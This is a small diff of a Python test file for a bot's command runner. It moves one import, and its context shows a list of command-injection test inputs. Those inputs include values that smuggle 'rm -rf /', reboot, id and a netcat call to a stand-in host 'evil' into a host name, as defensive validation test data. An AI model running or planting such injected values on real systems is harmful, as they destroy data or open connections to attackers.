@@ -8,12 +8,12 @@ import textwrap
 import threading
 
 import pytest
+from runner_support import run_diagnosis
 
 from bot.errors import InvalidTarget, PermissionDenied, UnknownHost
 from bot.runner import authorize, resolve_target
 from bot.runner.audit import AuditLog
 from bot.settings import RunnerAccessRule, Settings
-from tests.runner_support import run_diagnosis
 
 INJECTIONS = [
     "host01; rm -rf /", "host01 && reboot", "$(reboot)", "`id`", "host01|nc evil 1", "host01\nid",
